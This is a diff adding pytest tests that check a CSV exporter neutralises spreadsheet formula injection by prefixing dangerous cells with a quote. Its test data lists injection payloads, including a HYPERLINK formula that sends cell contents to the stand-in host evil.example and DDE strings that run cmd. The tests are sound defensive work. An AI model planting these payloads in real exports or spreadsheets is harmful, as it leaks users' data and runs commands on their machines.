@@ -164,3 +164,41 @@ def test_an_export_reads_back() -> None:
         'quote " comma , ✓',
         True,
     )
+
+
+# --- issue 25 item 7: CSV formula injection (OWASP's rule) -------------------------------------------------------
+
+FORMULAS = [
+    '=HYPERLINK("https://evil.example/?"&A1,"Click")',
+    "+1+cmd|' /C calc'!A0",
+    "-2+3",
+    "@SUM(1+1)*cmd|' /C calc'!A0",
+    "\t=1+1",
+    "\r=1+1",
+]
+
+
+def exported_cells(note: str) -> list[str]:
+    import csv
+    import io
+
+    text = porting.export_csv([{"address": "a@alice.example", "destinations": ["me@real.example"], "note": note}])
+    return list(csv.reader(io.StringIO(text)))[1]
+
+
+@pytest.mark.parametrize("note", FORMULAS)
+def test_a_cell_a_spreadsheet_would_run_leaves_prefixed_with_a_quote(note: str) -> None:
+    assert exported_cells(note)[2] == "'" + note
+
+
+@pytest.mark.parametrize("note", ["plain", "a = b", "", "'quoted already", "'=already prefixed by its author"])
+def test_other_cells_leave_as_they_are_but_one_that_would_lose_its_quote(note: str) -> None:
+    expected = "'" + note if note.startswith("'=") else note
+    assert exported_cells(note)[2] == expected
+
+
+@pytest.mark.parametrize("note", [*FORMULAS, "plain", "'quoted already", "'=already prefixed", "''+two"])
+def test_a_round_trip_changes_nothing(note: str) -> None:
+    text = porting.export_csv([{"address": "a@alice.example", "destinations": ["me@real.example"], "note": note}])
+    (row,) = list(porting.read_csv(text).rows())
+    assert row.note == note
